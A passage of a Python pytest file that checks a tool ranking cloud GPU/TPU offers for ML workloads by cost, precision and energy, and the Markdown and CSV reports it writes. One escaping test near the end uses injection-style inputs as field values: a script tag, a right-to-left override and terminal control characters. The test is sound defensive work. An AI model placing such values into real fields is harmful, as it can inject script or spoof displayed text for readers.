        "cheapest chip-hour (1.280 USD): ranking by the hourly price picks the same offer, no dearer per outcome.")
    # a runner-up estimated at bf16: the pick alone is said to be of no declared precision
    runner_up = {"runner_up_offer_id": "b", "runner_up_candidate_id": "b", "runner_up_cloud": "gcp",
                 "runner_up_instance_type": "tpu-v6e-8", "runner_up_region": "us-central1",
                 "runner_up_pricing_term": "spot", "runner_up_precision": "bf16", "runner_up_basis": "estimated",
                 "runner_up_outcome_value": 5.0, "runner_up_outcome_low": None, "runner_up_outcome_high": None,
                 "runner_up_gap": 5.0 / 4.807 - 1, "too_close_to_call": False}
    assert ("(us-central1, spot, bf16, estimated): 5.000, 4.0% more. The pick was measured at a precision its "
            "benchmark does not declare;") in str(decision(row | runner_up))
    # a workload that asks no precision (a service), or a pick that declares one: nothing said of a declaration
    assert "declare" not in str(decision(row | {"asked_precision": None}))
    assert "declare" not in str(decision(row | {"pick_precision": "fp8"}))
    # an MLPerf Training pick whose submission models.yaml declares trained at another precision than the one asked
    # (reports.trained_at_sides): said which; both sides at one precision, said once
    fp8 = row | {"pick_precision": "fp8", "trained_at_sides": [("pick", "fp8")]}
    assert ("The pick was measured at fp8, what its submission trained at (models.yaml trained_at); the workload "
            "asks b\\*f16.") in str(decision(fp8))
    both = str(decision(row | runner_up | {"pick_precision": "fp8", "runner_up_precision": "fp8",
                                           "trained_at_sides": [("pick", "fp8"), ("runner-up", "fp8")]}))
    assert both.count("trained at") == 1 and ("Both were measured at fp8, what their submissions trained at "
                                              "(models.yaml trained_at); the workload asks b\\*f16.") in both
    # which sides: those among the rows trained at another precision class (reports.trained_at_another_precision)
    otherwise = {"p": "fp8", "r": "int8"}
    assert reports.trained_at_sides({"pick_candidate_id": "p", "runner_up_candidate_id": "r"}, otherwise) == [
        ("pick", "fp8"), ("runner-up", "int8")]
    assert reports.trained_at_sides({"pick_candidate_id": "own", "runner_up_candidate_id": "r"}, otherwise) == [
        ("runner-up", "int8")]
    assert reports.trained_at_sides({"pick_candidate_id": "own", "runner_up_candidate_id": None}, otherwise) == []


def test_the_rows_trained_at_another_precision_are_mlperf_trainings_of_another_class_than_their_workload_asks(
        fresh_db):
    """The class as the models compare it (precision_class, sql/macros.sql: fp16 counts as bf16), against the
    workload's training_precision; an own run (its precision is its own), an estimate and another date are not."""
    asked = dict(fresh_db.execute("select workload_id, training_precision from catalog.workloads").fetchall())
    workload = next(w for w, precision in sorted(asked.items()) if precision == "bf16")
    fresh_db.execute("create table marts.rankings (as_of date, workload_id varchar, candidate_id varchar, "
                     "basis varchar, precision varchar, benchmark_label varchar)")
    rows = [("fp8", "measured", "fp8", "MLPerf Training v4.0"), ("fp16", "measured", "fp16", "MLPerf Training v4.0"),
            ("bf16", "measured", "bf16", "MLPerf Training v4.0"), ("own", "measured", "fp8", "own run r1"),
            ("estimated", "estimated", "fp8", None), ("none", "measured", None, "MLPerf Training v4.0")]
    for candidate, basis, precision, label in rows:
        fresh_db.execute("insert into marts.rankings values (?, ?, ?, ?, ?, ?)",
                         [AS_OF, workload, candidate, basis, precision, label])
    fresh_db.execute("insert into marts.rankings values (?, ?, 'other date', 'measured', 'fp8', "
                     "'MLPerf Training v4.0')", [AS_OF - dt.timedelta(days=1), workload])
    # a workload that asks no training precision (a service), and one the catalog does not hold: nothing to differ from
    service = next(w for w, precision in sorted(asked.items()) if precision is None)
    for candidate, of in (("asks none", service), ("no workload", "not-in-the-catalog")):
        fresh_db.execute("insert into marts.rankings values (?, ?, ?, 'measured', 'fp8', 'MLPerf Training v4.0')",
                         [AS_OF, of, candidate])
    assert reports.trained_at_another_precision(fresh_db, AS_OF) == {"fp8": "fp8"}


def test_the_csv_beside_a_page_has_the_rows_of_the_warehouse_ranking(flow_run):
    con = duckdb.connect(str(flow_run.warehouse), read_only=True)
    try:
        for workload_id in ("gpt3-175b-pretrain", "llama31-8b-chat-small"):
            ranking = con.sql("select * from marts.rankings where workload_id = ? "
                              "order by outcome_rank, usd_per_chip_hour, candidate_id", params=[workload_id]).pl()
            written = pl.read_csv(flow_run.reports / f"{workload_id}.csv", infer_schema_length=None)
            # every column of marts.rankings, then the page table's from the cost mart
            assert written.columns == ranking.columns + (
                ["energy_kwh", "energy_label"] if workload_id == "gpt3-175b-pretrain" else
                ["monthly_usd", "provisioned_kwh_per_month", "kwh_per_million_tokens",
                 "kwh_per_million_successful_requests", "tokens_per_s_per_watt", "energy_basis", "power_as_of",
                 "energy_label"])
            assert written["candidate_id"].to_list() == ranking["candidate_id"].to_list()
            assert written["outcome_value"].to_list() == ranking["outcome_value"].to_list()
            assert written["outcome_rank"].to_list() == ranking["outcome_rank"].to_list()
            assert written["basis"].to_list() == ranking["basis"].to_list()
        # the chat service's cost and energy columns are the page's Full ranking cells, from marts.inference_costs
        costs = con.sql("select candidate_id, monthly_usd, provisioned_kwh_per_month, "
                        "kwh_per_million_successful_requests, tokens_per_s_per_watt, energy_basis "
                        "from marts.inference_costs where workload_id = 'llama31-8b-chat-small'").pl()
        written = pl.read_csv(flow_run.reports / "llama31-8b-chat-small.csv", infer_schema_length=None)
        joined = written.join(costs, on="candidate_id", suffix="_mart")
        assert joined.height == written.height
        for column in ("monthly_usd", "provisioned_kwh_per_month", "kwh_per_million_successful_requests",
                       "tokens_per_s_per_watt", "energy_basis"):
            assert joined[column].to_list() == joined[f"{column}_mart"].to_list(), column
        page = (flow_run.reports / "llama31-8b-chat-small.md").read_text()
        pick = written.row(0, named=True)
        row = _ranking_row(page, 1, f"{pick['cloud']} {pick['instance_type']}", pick["pricing_term"])
        # the pick, inf2.xlarge: 1,106.97 USD a month; Inferentia2 publishes no power, so no energy figure or basis
        assert usd(pick["monthly_usd"]) == "1,106.97" and "1,106.97" in row
        assert (pick["tokens_per_s_per_watt"], pick["energy_basis"]) == (None, None) and "no published power" in row
        assert ("The full ranking for spreadsheets, every column of `marts.rankings` and the cost and energy columns "
                "of the Full ranking table below: [llama31-8b-chat-small.csv](llama31-8b-chat-small.csv).") in page
    finally:
        con.close()


def test_a_services_provisioned_energy_is_its_instances_month_at_the_energy_columns_power(flow_run):
    con = duckdb.connect(str(flow_run.warehouse), read_only=True)
    try:
        rows = {r["candidate_id"]: r for r in fetch_dicts(
            con, "select * from marts.inference_costs where workload_id in ('llama31-405b-chat', 'llama2-70b-chat') "
                 "or (workload_id = 'llama2-70b-batch' and energy_basis is not null)")}
        csv = pl.read_csv(flow_run.reports / "llama31-405b-chat.csv", infer_schema_length=None)
    finally:
        con.close()
    mi300x = rows["llama31-405b-chat|azure:eastus:Standard_ND96isr_MI300X_v5:on_demand|fp8"]
    # the 405B chat's pick: 2 instances x 8 MI300X x 750 W TDP x 0.7 (the GPU family's declared load) = 8.4 kW; x PUE
    # 1.2 = 10.08 kW; x 730 h = 7,358.4 kWh a month, the power its kWh per million successful requests uses
    assert (mi300x["instances"], mi300x["accelerator_count"], mi300x["energy_basis"]) == (2, 8, "tdp")
    assert mi300x["provisioned_kwh_per_month"] == pytest.approx(7358.4, rel=1e-12)
    # the work alone: 5 requests/s x 3,600 x 730 x 0.99 = 13,008,600 successful requests a month x 280.351 kWh a
    # million = 3,647 kWh, 49.6% of the provisioned month: the utilization the USD per month pays for
    work = mi300x["kwh_per_million_successful_requests"] * 5 * 3600 * 730 * 0.99 / 1e6
    assert work == pytest.approx(3647.0, abs=0.5)
    assert work / mi300x["provisioned_kwh_per_month"] == pytest.approx(mi300x["utilization"], rel=1e-9)
    # measured: NVIDIA's v4.1 H200 MaxQ Server result, 23,113 tokens/s at 6,280.214 W: 3.6803 tokens/s a watt. The
    # instance serves 8 x 3,804.84 = 30,438.7 tokens/s (an uncapped result), so at those joules a token it draws
    # 30,438.7 / 3.6803 = 8,270.7 W (not the capped system's 6,280 W, which would put the month below its own work);
    # 1 instance x 8.2707 kW x PUE 1.2 x 730 h = 7,245.13 kWh a month
    h200 = rows["llama2-70b-chat|aws:us-east-1:p5en.48xlarge:on_demand|bf16"]
    assert (h200["instances"], h200["energy_basis"], h200["accelerator_count"]) == (1, "measured", 8)
    assert h200["tokens_per_s_per_chip"] == pytest.approx(3804.8375, rel=1e-9)
    assert h200["tokens_per_s_per_watt"] == pytest.approx(23113 / 6280.214, rel=1e-3)
    watts = 8 * h200["tokens_per_s_per_chip"] / h200["tokens_per_s_per_watt"]
    assert watts == pytest.approx(8270.7, abs=0.1)
    assert h200["provisioned_kwh_per_month"] == pytest.approx(watts / 1000 * 1.2 * 730, rel=1e-12)
    assert h200["provisioned_kwh_per_month"] == pytest.approx(7245.13, abs=0.01)
    # its work, 27.446 kWh a million successful requests, is the utilization's share of that month, as on TDP rows
    requests = h200["deployment_requests_per_s"] * h200["utilization"] * 3600 * 730 * h200["success_rate"]
    assert (h200["kwh_per_million_successful_requests"] * requests / 1e6 / h200["provisioned_kwh_per_month"]
            == pytest.approx(h200["utilization"], rel=1e-9))
    # a chip of no published power has no figure; offline work provisions no instances for a month
    b300 = rows["llama31-405b-chat|aws:us-west-2:p6-b300.48xlarge:on_demand|fp8"]
    assert (b300["energy_basis"], b300["provisioned_kwh_per_month"]) == (None, None)
    batch = [r["provisioned_kwh_per_month"] for r in rows.values() if r["workload_id"] == "llama2-70b-batch"]
    assert batch and set(batch) == {None}
    # the page's Full ranking beside USD per month, and the CSV, from the mart
    page = (flow_run.reports / "llama31-405b-chat.md").read_text()
    header = _ranking_row(page.replace("| rank | offer |", "| 0 | header |"), 0, "header", "term")
    column = header.index("kWh per month, idle at load power")
    assert header[column - 1] == "USD per month"
    pick = _ranking_row(page, 1, "azure Standard_ND96isr_MI300X_v5", "on_demand")
    assert pick[column - 1:column + 1] == ["70,080.00", "7,358"]
    assert _ranking_row(page, 8, "aws p6-b300.48xlarge", "on_demand")[column] == "no published power"
    written = dict(zip(csv["candidate_id"], csv["provisioned_kwh_per_month"], strict=True))
    assert written[mi300x["candidate_id"]] == pytest.approx(7358.4, rel=1e-12)
    assert written[b300["candidate_id"]] is None


def test_a_workload_page_says_what_its_energy_figures_assume(flow_run, tmp_path):
    # under the Full ranking, once a page: a training run's chips at their full TDP, a service's at TDP x the load
    # factor, both x the family's PUE (catalogs/accelerators.yaml family_defaults: gpu 1.2, tpu 1.1, load 0.7), and
    # tokens/s per watt before PUE: the same H100 is 700 W on a training page and 700 x 0.7 = 490 W on a serving one
    gpt3 = (flow_run.reports / "gpt3-175b-pretrain.md").read_text()
    # its 52 ranked rows: 26 GPU + 1 TPU v6e with a TDP (27), 25 without one (TPU v5p, Trainium, CPU...)
    assert ("The energy (kWh) is the completed run's, rework included: each chip at its full TDP "
            "(catalogs/accelerators.yaml) for the whole run (27 rows); x the facility PUE of its family, 1.2 for gpu, "
            "1.1 for tpu (catalogs/accelerators.yaml family_defaults, declared); no figure where the chip's power is "
            "not published (25 rows). Each row's basis in words: `energy_label`, in "
            "[gpt3-175b-pretrain.csv](gpt3-175b-pretrain.csv) and `marts.training_costs`.") in gpt3
    small = (flow_run.reports / "llama31-8b-chat-small.md").read_text()
    assert ("The energy (kWh) counts the work at full load: each chip at TDP x the load factor of its family, 0.7 for "
            "gpu and tpu, where no MLPerf power result of the chip, model, scenario and precision exists (29 rows; a "
            "training page counts the full TDP); x the facility PUE of its family, 1.2 for gpu, 1.1 for tpu "
            "(catalogs/accelerators.yaml family_defaults, declared); no figure where the chip's power is not published "
            "(24 rows). Tokens/s per watt divides by the same power before PUE (at the chips, for a TDP row).") in small
    # the batch workload has MLPerf power results of its own: their system power, at the wall
    batch = (flow_run.reports / "llama2-70b-batch.md").read_text()
    assert ("(38 rows; a training page counts the full TDP); else the MLPerf result's system power, at the wall "
            "(5 rows); x the facility PUE of its family, 1.2 for gpu") in batch
    # the CSV carries each row's basis in words, as the mart writes it
    for name, kind in (("gpt3-175b-pretrain", "training"), ("llama31-8b-chat-small", "inference")):
        csv = pl.read_csv(flow_run.reports / f"{name}.csv", infer_schema_length=None)
        assert csv.columns[-1] == "energy_label" and csv["energy_label"].null_count() == 0
    csv = pl.read_csv(flow_run.reports / "gpt3-175b-pretrain.csv", infer_schema_length=None)
    [h100] = csv.filter(pl.col("candidate_id") == "gpt3-175b-pretrain|aws:us-east-1:p5.48xlarge:on_demand|512")[
        "energy_label"]
    assert h100 == "TDP 700 W x 512 chips x PUE 1.2"
    # the figures are the warehouse's, not the template's: a PUE of 1.35 and a load factor of 0.55 declared for GPUs
    con = open_copy(flow_run.warehouse, tmp_path / "w.duckdb")
    try:
        con.execute("update catalog.family_defaults set pue = 1.35, serving_load_factor = 0.55 where family = 'gpu'")
        pages = reports.render(con, AS_OF)
    finally:
        discard(con)
    assert "x the facility PUE of its family, 1.35 for gpu, 1.1 for tpu (" in pages["gpt3-175b-pretrain.md"]
    assert "the load factor of its family, 0.7 for tpu, 0.55 for gpu, where" in pages["llama31-8b-chat-small.md"]


def test_a_services_energy_column_says_it_counts_the_work_at_full_load_not_idle(flow_run):
    # the 405B chat's Full ranking: its cost is at the provisioned utilization, its energy column says its own basis
    page = (flow_run.reports / "llama31-405b-chat.md").read_text()
    basis = "kWh per million successful requests at full load, idle not counted"
    assert f"| USD per million total tokens | {basis} | tokens/s per watt |" in page
    # 280.351 kWh, written to three significant figures at least (whole from 100), as hours are
    assert _ranking_row(page, 1, "azure Standard_ND96isr_MI300X_v5", "on_demand")[17] == "280"
    # offline work is priced at full utilization too: its energy column needs no basis of its own
    assert "| USD per million total tokens | kWh per million output tokens | tokens/s per watt |" in (
        flow_run.reports / "llama2-70b-batch.md").read_text()
    # a service ranked by energy: the ranked outcome's name and the decision's unit say the same; the chart's axis
    # keeps the unit alone
    assert reports.OUTCOME_LABELS["kwh_per_million_successful_requests"] == basis
    decision = reports.MARKDOWN.get_template("_sentences.j2").module.decision
    row = {"outcome_metric": "kwh_per_million_successful_requests", "pick_cloud": "azure",
           "pick_instance_type": "Standard_ND96isr_MI300X_v5", "pick_region": "eastus",
           "pick_pricing_term": "on_demand", "pick_precision": "fp8", "pick_basis": "estimated",
           "pick_outcome_value": 280.351, "pick_outcome_low": None, "pick_outcome_high": None,
           "runner_up_offer_id": None, "is_chip_hour_pick_same_offer": True, "pick_usd_per_chip_hour": 6.0}
    assert str(decision(row)).startswith(
        "pick azure Standard_ND96isr_MI300X_v5 (eastus, on_demand, fp8, estimated): 280.35 kWh per million "
        "successful requests at full load, idle not counted. No other offer can run it.")
    assert chart_kit.OUTCOME_UNITS["kwh_per_million_successful_requests"] == "kWh per million successful requests"


def test_an_excluded_cell_past_its_bound_says_how_many_names_where_they_are_not_one_an_offer():
    """Past EXCLUDED_OFFERS_LISTED names, a cell counts the names left ("and N more"): where a name is not one offer
    (offers that read alike share one; an offer excluded at two precisions has two) it says how many names there are,
    even where the two counts happen to agree."""
    listed = ["aws p5.48xlarge us-east-1 on_demand (fp8, 2 offers)", "aws p5.48xlarge us-east-1 spot (fp8)"]
    # 5 offers under 4 names (the first name is 2 offers): 2 names listed, 4 - 2 = 2 names more
    assert reports._excluded_offers({"offers": 5, "labels": 4, "most_offers_a_label": 2, "listed": listed}) == (
        "5 offers under 4 names, the first: aws p5.48xlarge us-east-1 on_demand (fp8, 2 offers), aws p5.48xlarge "
        "us-east-1 spot (fp8), and 2 more")
    # 2 offers, each at two precisions: 4 names, 2 listed, 2 more
    both = ["aws inf2.8xlarge us-east-1 on_demand (fp8)", "aws inf2.8xlarge us-east-1 on_demand (int8)"]
    assert reports._excluded_offers({"offers": 2, "labels": 4, "most_offers_a_label": 1, "listed": both}) == (
        f"2 offers under 4 names, the first: {both[0]}, {both[1]}, and 2 more")
    # 4 offers under 4 names, one of them 2 offers and another offer at two precisions: the counts agree, the names
    # are not the offers
    assert reports._excluded_offers({"offers": 4, "labels": 4, "most_offers_a_label": 2, "listed": listed}) == (
        f"4 offers under 4 names, the first: {listed[0]}, {listed[1]}, and 2 more")
    # every name an offer: the cell gives the one count (as the snapshot's pages do)
    assert reports._excluded_offers({"offers": 51, "labels": 51, "most_offers_a_label": 1, "listed": listed[1:]}) == (
        "51 offers, the first: aws p5.48xlarge us-east-1 spot (fp8), and 50 more")
    assert reports._excluded_offers({"offers": 2, "labels": 2, "most_offers_a_label": 1, "listed": both}) == (
        ", ".join(both))  # all named


def test_a_workload_page_lists_its_ranking_and_exclusions_up_to_its_bounds_and_says_where_the_rest_is(
        flow_run, monkeypatch):
    # the snapshot's llama2-70b-batch page lists all of it (tests/golden/llama2-70b-batch.md): 74 ranked candidates,
    # and 94 excluded under 27 reasons, the first three (in the order of the reason, its figures as numbers)
    # excluding 1, 2 and 2 offers. With bounds of 5 rows, 3 reasons and 1 offer a reason: the first 5 rows; each of
    # those reasons names its first offer and counts the rest (none, 2 - 1 = 1, 2 - 1 = 1); the 27 - 3 = 24 reasons
    # left out hold
    # 94 - (2 + 1 + 2) = 89 candidates
    monkeypatch.setattr(reports, "RANKING_ROWS_LISTED", 5)
    monkeypatch.setattr(reports, "EXCLUSION_REASONS_LISTED", 3)
    monkeypatch.setattr(reports, "EXCLUDED_OFFERS_LISTED", 1)
    con = duckdb.connect(str(flow_run.warehouse), read_only=True)
    try:
        page = reports.render(con, AS_OF)["llama2-70b-batch.md"]
    finally:
        con.close()
    whole = (flow_run.reports / "llama2-70b-batch.md").read_text()
    assert "74 candidates, 94 exclusions." in page

    def table(text: str, section: str) -> list[str]:  # the header, then a line a row (not the |---| line)
        return [line for line in text.split(f"## {section}", 1)[1].split("\n## ", 1)[0].splitlines()
                if line.startswith("| ")]

    assert ("Listed: the first 5 of 74 candidates. All of them, with every column, are in "
            "[llama2-70b-batch.csv](llama2-70b-batch.csv) and in the warehouse's `marts.rankings`.") in page
    assert len(table(whole, "Full ranking")) == 1 + 74
    assert table(page, "Full ranking") == table(whole, "Full ranking")[:1 + 5]
    # a ranking within its bound says nothing of it (its reversals, 63, are past theirs: their own line says so)
    assert "Listed: the first" not in whole.split("## Full ranking", 1)[1]
    assert "## Top 10" in page  # the short table keeps its 10 rows whatever the Full ranking lists
    excluded = table(page, "Excluded")
    assert excluded[1:] == [
        table(whole, "Excluded")[1],
        ("| 69 GB of fp8 weights + KV cache need 3 chips of 34.36 GB (90% usable); inf2.8xlarge has 1 | "
         "2 offers, the first: aws inf2.8xlarge us-east-1 on_demand (fp8), and 1 more |"),
        ("| 69 GB of fp8 weights + KV cache need 3 chips of 34.36 GB (90% usable); trn1.2xlarge has 1 | "
         "2 offers, the first: aws trn1.2xlarge us-east-1 on_demand (fp8), and 1 more |"),
    ]
    # under the table, the query that lists every offer of every reason, the page's as-of date and workload in it
    assert ("A reason that excludes more than 1 offers names the first 1; every offer of every reason: `hweval query "
            "\"select exclusion_reason, cloud, region, instance_type, pricing_term, precision, chips from "
            "marts.excluded_candidates where as_of = '2026-11-30' and workload_id = 'llama2-70b-batch' order by "
            "all\"`.") in page
    # at the page's own bound (EXCLUDED_OFFERS_LISTED, 5): the int8 reason's 51 offers, its first 5 named, 51 - 5 = 46
    # counted; a reason of 2 offers is named whole, without a count
    int8 = [row for row in table(whole, "Excluded") if row.startswith("| int8 is not among")]
    assert len(int8) == 1 and int8[0].startswith(
        "| int8 is not among the precisions the workload lists (bf16, fp8 in workloads.yaml) | 51 offers, the first: "
        "aws p5.48xlarge eu-north-1 on_demand (int8), aws p5.48xlarge eu-north-1 spot (int8), ")
    assert int8[0].endswith(", and 46 more |") and int8[0].count(" (int8)") == 5
    assert table(whole, "Excluded")[2].endswith(
        "| aws inf2.8xlarge us-east-1 on_demand (fp8), aws inf2.8xlarge us-east-1 spot (fp8) |")
    assert "A reason that excludes more than 5 offers names the first 5; every offer of every reason" in whole
    # a page no reason of which excludes more than 5 offers gives no query
    assert "every offer of every reason" not in (flow_run.reports / "gpt3-175b-pretrain.md").read_text()
    assert len(table(whole, "Excluded")) == 1 + 27
    assert ("94 candidates cannot run this workload; each reason with the offers it excludes:" in page)
    assert ("Not listed here: 24 more reasons (89 candidates); every exclusion is in the warehouse's "
            "`marts.excluded_candidates`.") in page
    assert "Not listed here" not in whole


def test_offers_excluded_alike_are_named_once_with_their_number(flow_run, tmp_path):
    # another offer of the same instance type in the same region on the same term, at the same precision (a reserved
    # term of another length, say), excluded for the same reason reads as the offer it repeats: one name, with its
    # precision and the number of offers; an offer excluded again at another chip count is one more candidate, not
    # one more offer
    con = open_copy(flow_run.warehouse, tmp_path / "w.duckdb")
    try:
        # Inferentia2's 32 GiB = 34.36 GB: 138.43 GB / (34.36 x 0.9) = 4.5 -> 5 chips
        reason = ("138 GB of bf16 weights + KV cache need 5 chips of 34.36 GB (90% usable); inf2.8xlarge has 1")
        con.execute("""
            insert into marts.excluded_candidates by name
            select * replace (offer_id || '-again' as offer_id) from marts.excluded_candidates
            where workload_id = 'llama2-70b-batch' and exclusion_reason = $reason and pricing_term = 'spot'
            union all by name
            select * replace (chips + 1 as chips) from marts.excluded_candidates
            where workload_id = 'llama2-70b-batch' and exclusion_reason = $reason and pricing_term = 'on_demand'
            """, {"reason": reason})
        candidates, rows, left_out = reports._excluded(con, AS_OF)["llama2-70b-batch"]
    finally:
        discard(con)
    # 94 + 2 candidates; the reason's on_demand offer (2 candidates, 1 offer: no number), then its spot offer and the
    # copy (2 offers under one name)
    # (another reason of the page, int8's, names 5 of its 51 offers: the page gives the query for them all)
    assert candidates == 96 and left_out == {"reasons": 0, "candidates": 0, "offers_cut": True}
    assert [reason, "aws inf2.8xlarge us-east-1 on_demand (bf16), aws inf2.8xlarge us-east-1 spot (bf16, 2 offers)"] \
        in rows


def test_quarantine_is_grouped_by_value_with_what_to_do(flow_run):
    index = (flow_run.reports / "index.md").read_text()
    quarantine = index.split("## Quarantined rows", 1)[1]
    assert ("- **mlperf_training_snapshot**, `accelerator_has_alias` on accelerator_key: 2 rows: the raw accelerator "
            "string must match an alias in catalogs/accelerators.yaml: add it to the accelerator it names, never "
            "guess.\n  Values: intel(r) gaudi(r) 2 ai accelerator (2).\n  What to do: add each string as an alias of "
            "the accelerator it names in catalogs/accelerators.yaml") in quarantine
    assert "Values: (empty) (1), nvidia h100-pcie-80gb (1)." in quarantine


def test_quarantine_groups_name_the_most_frequent_values_and_count_the_rest():
    rows = [{"source_id": "mlperf_inference", "expectation": "accelerator_has_alias", "column_name": "accelerator_key",
             "reason": "no alias", "value": f"chip {i}", "rows": 100 - i} for i in range(20)]
    rows.append({"source_id": "aws_pricing", "expectation": "price_positive", "column_name": "price_usd",
                 "reason": None, "value": None, "rows": 3})
    groups = reports._quarantine_groups(rows)
    assert [g["source_id"] for g in groups] == ["mlperf_inference", "aws_pricing"]
    listed = groups[0]["top_values"]
    assert [v["value"] for v in listed] == [f"chip {i}" for i in range(reports.QUARANTINE_VALUES_LISTED)]
    # 20 values of 100 down to 81 rows: the first 12 listed, 8 more (88 + 87 + ... + 81 = 676 rows)
    assert (groups[0]["more_values"], groups[0]["more_rows"]) == (8, sum(range(81, 89)))
    assert groups[0]["rows"] == sum(range(81, 101))
    assert groups[1]["top_values"] == [{"value": "(missing)", "rows": 3}]
    assert groups[1]["reason"] == "no reason declared"


def test_text_from_data_is_escaped_and_numbers_are_formatted_in_one_place():
    decision = reports.MARKDOWN.get_template("_sentences.j2").module.decision({
        "outcome_metric": "completed_run_usd", "pick_cloud": "aws", "pick_instance_type": "<script>x</script>",
        "pick_region": "us|east", "pick_pricing_term": "spot", "pick_precision": None, "pick_basis": "measured",
        "pick_outcome_value": 1234.5, "pick_outcome_low": None, "pick_outcome_high": None, "runner_up_offer_id": None,
        "is_chip_hour_pick_same_offer": True, "pick_usd_per_chip_hour": 2.5})
    assert str(decision) == ("pick aws &lt;script&gt;x&lt;/script&gt; (us\\|east, spot, measured): 1,234.50 USD per "
                             "completed run. No other offer can run it. The pick is also the cheapest chip-hour (2.500 USD): "
                             "ranking by the hourly price picks the same offer, no dearer per outcome.")
    # too close to call: the candidate that would settle it is named from data, escaped too
    close = reports.MARKDOWN.get_template("_sentences.j2").module.decision({
        "outcome_metric": "usd_per_million_tokens", "pick_cloud": "aws", "pick_instance_type": "p5.48xlarge",
        "pick_region": "us-east-1", "pick_pricing_term": "spot", "pick_precision": "fp8", "pick_basis": "measured",
        "pick_outcome_value": 0.1, "pick_outcome_low": None, "pick_outcome_high": None, "pick_candidate_id": "a",
        "runner_up_offer_id": "b", "runner_up_candidate_id": "b", "runner_up_cloud": "neo|cloud",
        "runner_up_instance_type": "box*8", "runner_up_region": "r", "runner_up_pricing_term": "private",
        "runner_up_precision": "fp8", "runner_up_basis": "estimated", "runner_up_outcome_value": 0.12,
        "runner_up_outcome_low": 0.06, "runner_up_outcome_high": 0.24, "runner_up_gap": 0.2,
        "runner_up_accelerator_id": "mi300x-192gb", "too_close_to_call": True, "settle_candidate_id": "b",
        "is_chip_hour_pick_same_offer": True, "pick_usd_per_chip_hour": 1.28})
    assert str(close) == (
        "pick aws p5.48xlarge (us-east-1, spot, fp8, measured): 0.100 USD per million output tokens. Runner-up neo\\|cloud "
        "box\\*8 (r, private, fp8, estimated): 0.120 (likely 0.060 to 0.240), 20% more. **Too close to call**: the two "
        "overlap within the estimates' error; a measured run of this workload on mi300x-192gb (neo\\|cloud box\\*8) "
        "would settle it. The pick is also the cheapest chip-hour (1.280 USD): ranking by the hourly price picks the same "
        "offer, no dearer per outcome.")
    assert md_escape("a *b* [c](d) `e` #f") == "a \\*b\\* \\[c\\](d) \\`e\\` \\#f"
    # a review's finding: a right-to-left override in a price sheet's region showed the rest of the decision line,
    # "103.89 USD" included, reversed; a bell and a zero-width space passed unseen. Each is written as {U+...}; a
    # tab stays, and ordinary letters of any script are left alone
    assert md_escape("us-west\u202e") == "us-west{U+202E}"
    assert md_escape("8x-h100\x07\u200b-box\tb") == "8x-h100{U+0007}{U+200B}-box\tb"
    assert md_escape("Zürich 東京") == "Zürich 東京"
    assert str(md_code("a\x1b[2Jb")) == "`a{U+001B}[2Jb`"
    assert (usd(2978.214), usd(0.1523), signed_usd(832.71), signed_usd(-0.5), ratio(2.7043), ratio(1204.4)) == (
        "2,978.21", "0.152", "+832.71", "-0.500", "2.70x", "1,204x")


def test_a_runner_up_equal_to_the_digits_shown_and_a_price_no_run_refreshed_are_said_so():
    decision = reports.MARKDOWN.get_template("_sentences.j2").module.decision({
        "outcome_metric": "usd_per_million_tokens", "pick_cloud": "aws", "pick_instance_type": "p5.48xlarge",
        "pick_region": "us-east-1", "pick_pricing_term": "spot", "pick_precision": "fp8", "pick_basis": "measured",
        "pick_outcome_value": 1.2341, "pick_outcome_low": None, "pick_outcome_high": None, "pick_candidate_id": "a",
        "pick_price_stale": ("aws_spot", None), "runner_up_offer_id": "b", "runner_up_candidate_id": "b",
        "runner_up_cloud": "aws", "runner_up_instance_type": "p5en.48xlarge", "runner_up_region": "us-east-1",
        "runner_up_pricing_term": "spot", "runner_up_precision": "fp8", "runner_up_basis": "measured",
        "runner_up_outcome_value": 1.2344, "runner_up_outcome_low": None, "runner_up_outcome_high": None,
        "runner_up_gap": 1.2344 / 1.2341 - 1, "too_close_to_call": False, "is_chip_hour_pick_same_offer": True,
        "pick_usd_per_chip_hour": 1.28})
    # 1.2341 and 1.2344 are both 1.234 as the usd filter shows them (a gap of 0.02%, "0.0% more", would read oddly);
    # a stale source with no last good load (stale_since null) has no run to name
    assert str(decision) == (
        "pick aws p5.48xlarge (us-east-1, spot, fp8, measured): 1.234 USD per million output tokens. **Its price is "
        "not fresh**: this run could not refresh aws_spot, so the price is one no run has refreshed. Runner-up aws "
        "p5en.48xlarge (us-east-1, spot, fp8, measured): 1.234, the same to the last digit shown. The pick is also the "
        "cheapest chip-hour (1.280 USD): ranking by the hourly price picks the same offer, no dearer per outcome.")


def test_a_runner_up_a_hair_dearer_is_said_to_be_less_than_a_tenth_of_a_percent_more():
    """6,292.50 against 6,292.48 differ in the last digit shown, by 0.02 / 6,292.48 = 0.0003%: "0.0% more" would
    contradict the figures beside it."""
    sentence = str(reports.MARKDOWN.get_template("_sentences.j2").module.decision({
        "outcome_metric": "completed_run_usd", "pick_cloud": "aws", "pick_instance_type": "p5.48xlarge",
        "pick_region": "us-east-1", "pick_pricing_term": "on_demand", "pick_precision": "bf16",
        "pick_basis": "measured", "pick_outcome_value": 6292.48, "pick_outcome_low": None, "pick_outcome_high": None,
        "pick_candidate_id": "a", "runner_up_offer_id": "b", "runner_up_candidate_id": "b", "runner_up_cloud": "aws",
        "runner_up_instance_type": "p5en.48xlarge", "runner_up_region": "us-east-1",
        "runner_up_pricing_term": "on_demand", "runner_up_precision": "bf16", "runner_up_basis": "measured",
        "runner_up_outcome_value": 6292.50, "runner_up_outcome_low": None, "runner_up_outcome_high": None,
        "runner_up_gap": 6292.50 / 6292.48 - 1, "too_close_to_call": False, "is_chip_hour_pick_same_offer": True,
        "pick_usd_per_chip_hour": 6.88}))
    assert "(us-east-1, on_demand, bf16, measured): 6,292.50, less than 0.1% more. The pick is also" in sentence


def test_a_notification_sentence_is_plain_text():
    change = {"unit": "completed_run_usd", "offer_id": "aws:us-east-1:p5.48xlarge:spot", "previous_offer_id": "x",
              "workload_id": "gpt3", "label": "aws p5.48xlarge [spot]", "previous_label": "gcp a3 <old>",
              "reason_detail": "price move", "after_value": 637.2, "before_value": 488.63,
              "previous_pick_now_value": None}
    assert reports.best_offer_sentence(change) == (
        "Best for gpt3 is now aws p5.48xlarge [spot] (was gcp a3 <old>): price move; completed-run USD 637.20 "
        "instead of 488.63 USD.")


def test_every_page_links_only_files_that_exist(flow_run):
    for page in flow_run.reports.glob("*.md"):
        for target in re.findall(r"\]\(([^)#]+)\)", page.read_text()):
            if "://" not in target:
                assert (flow_run.reports / target).exists(), f"{page.name} links {target}"


def test_every_chart_on_disk_is_a_png_linked_from_its_page(flow_run):
    from PIL import Image

